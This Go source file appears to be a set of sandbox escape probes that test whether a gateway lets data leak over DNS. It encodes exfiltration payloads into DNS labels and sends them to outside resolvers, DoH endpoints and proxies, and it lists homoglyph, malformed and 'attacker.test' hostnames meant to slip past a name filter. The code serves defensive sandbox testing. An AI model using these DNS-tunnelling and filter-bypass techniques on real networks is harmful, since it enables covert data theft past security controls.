//go:build linux

package main

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"github.com/paddock-sandbox/paddock/attack/protocol"
)

// exfilData is data that a program would smuggle out in names.
func exfilData() string { return "exfil-" + hex.EncodeToString([]byte("all the data")) }

// question builds a DNS query for a name of any bytes.
func question(kind uint16, extra []byte, labels ...string) []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range labels {
		q = append(append(q, byte(len(l))), l...)
	}
	q = append(q, 0, byte(kind>>8), byte(kind), 0, 1)
	if extra != nil {
		q[11] = 1
		q = append(q, extra...)
	}
	return q
}

// ask sends a query to a server and judges the answer. An address is a success, and so is
// any answer from a server other than the gateway.
func ask(b *protocol.Brief, network, server string, q []byte) protocol.Try {
	c, err := net.DialTimeout(network, server, waiting(b))
	if err != nil {
		return told(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(waiting(b) / 2))
	buf := make([]byte, 4096)
	var n int
	if network == "tcp" {
		if _, err := c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...)); err != nil {
			return told(err)
		}
		if _, err := io.ReadFull(c, buf[:2]); err != nil {
			return told(err)
		}
		n, err = c.Read(buf)
	} else {
		if _, err := c.Write(q); err != nil {
			return told(err)
		}
		n, err = c.Read(buf)
	}
	if err != nil {
		return told(err)
	}
	if n < 12 {
		return protocol.Try{Outcome: protocol.Denied, Errno: "short"}
	}
	code, answers := buf[3]&15, binary.BigEndian.Uint16(buf[6:])
	switch {
	case code != 0:
		return protocol.Try{Outcome: protocol.Denied, Errno: fmt.Sprintf("rcode-%d", code)}
	case answers == 0:
		return protocol.Try{Outcome: protocol.Denied, Errno: "no-data"}
	}
	return withLoot(reached("%d answers", answers), string(buf[:n]))
}

const gatewayDNS = protocol.GatewayAddr + ":53"

// nameLeak is N09. The host checks whether any server was queried.
func nameLeak() []probe {
	labels := append([]string{exfilData()}, strings.Split(protocol.Exfil, ".")...)
	kinds := map[string]uint16{"A": 1, "AAAA": 28, "TXT": 16, "MX": 15, "NS": 2, "CNAME": 5, "NULL": 10, "SRV": 33, "HTTPS": 65, "SVCB": 64, "ANY": 255, "AXFR": 252, "PTR": 12, "none": 0, "private": 65280}
	list := func(network, server string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try {
			var names []string
			for k := range kinds {
				names = append(names, k)
			}
			return atOnce(names, func(k string) protocol.Try { return ask(b, network, server, question(kinds[k], nil, labels...)) })
		}
	}
	// An answer of the gateway itself about an allowed name is harmless.
	own := func(t protocol.Try) protocol.Try {
		if t.Outcome == protocol.Reached {
			return inside("%s", t.Detail)
		}
		return t
	}
	return []probe{
		{"other servers", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"udp 8.8.8.8:53", "udp 9.9.0.53:53", "udp 127.0.0.53:53", "udp 127.0.0.1:53", "tcp 8.8.8.8:53", "tcp 9.9.0.53:53", "udp [2a00:1::53]:53", "udp 198.18.0.9:53", "udp 9.9.0.2:53"}, func(s string) protocol.Try {
				network, server, _ := strings.Cut(s, " ")
				return ask(b, network, server, question(1, nil, labels...))
			})
		}},
		{"by the library", func(b *protocol.Brief) protocol.Try {
			ctx, cancel := wait(b)
			defer cancel()
			addrs, err := net.DefaultResolver.LookupHost(ctx, strings.Join(labels, "."))
			if err != nil {
				return told(err)
			}
			return reached("it has the addresses %q", addrs)
		}},
		{"of any kind", list("udp", gatewayDNS)},
		{"of any kind, over a connection", list("tcp", gatewayDNS)},
		{"to the gateway's other address", list("udp", "["+protocol.Gateway6+"]:53")},
		{"in what goes with a question", func(b *protocol.Brief) protocol.Try {
			option := append([]byte{0xfd, 0xe9, 0, byte(len(exfilData()))}, exfilData()...)
			extra := append([]byte{0, 0, 41, 16, 0, 0, 0, 0, 0, 0, byte(len(option))}, option...)
			return own(ask(b, "udp", gatewayDNS, question(1, extra, strings.Split(protocol.Allowed, ".")...)))
		}},
		{"of an allowed name, of other kinds", func(b *protocol.Brief) protocol.Try {
			return atOnce([]uint16{16, 15, 65, 255, 12, 33}, func(k uint16) protocol.Try {
				return ask(b, "udp", gatewayDNS, question(k, nil, strings.Split(protocol.Allowed, ".")...))
			})
		}},
		{"addresses of names below a wildcard", func(b *protocol.Brief) protocol.Try {
			return atOnce([]uint16{1, 28, 16, 255}, func(k uint16) protocol.Try {
				return own(ask(b, "udp", gatewayDNS, question(k, nil, exfilData(), "wild", "test")))
			})
		}},
		{"names of addresses", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"67.0.0.11.in-addr.arpa", "1.0.0.127.in-addr.arpa", "254.169.254.169.in-addr.arpa", "exfil.in-addr.arpa", "exfil.ip6.arpa"}, func(n string) protocol.Try {
				return own(ask(b, "udp", gatewayDNS, question(12, nil, strings.Split(n, ".")...)))
			})
		}},
		{"through the proxies", func(b *protocol.Brief) protocol.Try {
			return anyWays(b, strings.Join(labels, "."), exfilData()+".test")
		}},
		{"to a resolver over the web", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"8.8.8.8:853", "dns.test:853", "dns.test:443", "1.1.1.1:443"}, func(d string) protocol.Try {
				return worst(connect(b, d, web("dns.test", "/dns-query?dns=exfil")), direct(b, "tcp", d, web("dns.test", "/dns-query?dns=exfil")))
			})
		}},
		{"several questions in one", func(b *protocol.Brief) protocol.Try {
			q := question(1, nil, strings.Split(protocol.Allowed, ".")...)
			q[5] = 2
			q = append(q, question(1, nil, labels...)[12:]...)
			return own(ask(b, "udp", gatewayDNS, q))
		}},
		{"updates and notes", func(b *protocol.Brief) protocol.Try {
			return atOnce([]byte{1 << 3, 2 << 3, 4 << 3, 5 << 3, 15 << 3, 0x80}, func(op byte) protocol.Try {
				q := question(6, nil, labels...)
				q[2] = op
				return ask(b, "udp", gatewayDNS, q)
			})
		}},
	}
}

// strangeNames is N10.
func strangeNames() []probe {
	raw := []string{"x\x00", "a/b", "a b", "a\\b", "a%00", "a@b", "a:b", "*", "a\r\nb", "_\xff\xfe", "münchen", "-x-", "x\x00.attacker", "a.b", strings.Repeat("a", 63), "%2e", "x\x07", "(exfil)", "exfil=1", "xn--\x00"}
	return []probe{
		{"asked for, as bytes", func(b *protocol.Brief) protocol.Try {
			return atOnce(raw, func(l string) protocol.Try {
				t := ask(b, "udp", gatewayDNS, question(1, nil, l, "wild", "test"))
				if l == strings.Repeat("a", 63) && t.Outcome == protocol.Reached {
					return inside("it is a good name")
				}
				return t
			})
		}},
		{"long ones", func(b *protocol.Brief) protocol.Try {
			return atOnce([]int{4, 40, 200}, func(n int) protocol.Try {
				var labels []string
				for range n {
					labels = append(labels, strings.Repeat("e", 63))
				}
				return ask(b, "udp", gatewayDNS, question(1, nil, append(labels, "wild", "test")...))
			})
		}},
		{"compressed in circles", func(b *protocol.Brief) protocol.Try {
			q := question(1, nil, "x")
			return atOnce([]string{"\xc0\x0c", "\x01x\xc0\x0c", "\xc0\xff", "\x40x", "\x80x", "\xc0"}, func(name string) protocol.Try {
				return ask(b, "udp", gatewayDNS, append(append(append([]byte(nil), q[:12]...), name...), 0, 1, 0, 1))
			})
		}},
		{"through SOCKS, as bytes", func(b *protocol.Brief) protocol.Try {
			return atOnce(raw[:len(raw)-6], func(l string) protocol.Try { return socks(b, l+".wild.test", 80, web("wild.test", "/")) })
		}},
		{"through CONNECT", func(b *protocol.Brief) protocol.Try {
			return atOnce([]string{"x%00.wild.test", "a/b.wild.test", "a b.wild.test", "a%2fb.wild.test", "a\\b.wild.test", "x..wild.test", ".wild.test", "*.wild.test", "a_\x7f.wild.test", "(x).wild.test", "a%0d%0a.wild.test"}, func(h string) protocol.Try {
				return worst(connect(b, h+":80", web(h, "/")), get(b, "http://"+h+"/", h))
			})
		}},
		{"told: data below a wildcard", func(b *protocol.Brief) protocol.Try {
			return anyWay(b, exfilData()+".wild.test")
		}},
	}
}

// confusedNames is N16.
func confusedNames() []probe {
	try := func(hosts ...string) func(*protocol.Brief) protocol.Try {
		return func(b *protocol.Brief) protocol.Try { return anyWays(b, hosts...) }
	}
	return []probe{
		{"end of a name", try("evilwild.test", "evilallowed.test", "xallowed.test", "-wild.test", "wild.test.attacker.test", "allowed.test.attacker.test")},
		{"what stands above a wildcard", try("wild.test", "wild.test.", "WILD.TEST", "test", ".wild.test")},
		{"denied by name, spelt otherwise", try("denied.wild.test.", "DENIED.wild.test", "denied.WILD.TEST.", "Denied.Wild.Test", "denied.wild.test..", "denied%2ewild.test", "denied.wild.test%00", "denied.wild.test ")},
		{"dots that are none", try("denied。wild.test", "denied．wild．test", "denied｡wild｡test", "denied․wild.test")},
		{"letters that fold", try("ⓓenied.wild.test", "DENİED.wild.test", "denıed.wild.test", "ｄenied.wild.test", "de\u00adnied.wild.test", "de\u200bnied.wild.test")},
		{"letters of other scripts", try("аllowed.test", "xn--llowed-5nf.test", "xn--.wild.test", "xn--a.test", "allοwed.test")},
		{"users and marks", try("allowed.test@stranger.test", "stranger.test#allowed.test", "stranger.test?allowed.test", "stranger.test/allowed.test", "stranger.test\\allowed.test", "stranger.test;allowed.test", "stranger.test,allowed.test", "stranger.test%23.allowed.test", "stranger.test&allowed.test")},
		{"listed twice", try("allowed.test stranger.test", "allowed.test,stranger.test", "stranger.test\tallowed.test", "allowed.test..", "..allowed.test")},
		{"pattern as a name", try("*", "*.wild.test", "*.test", "%2a.wild.test", "?.wild.test")},
	}
}
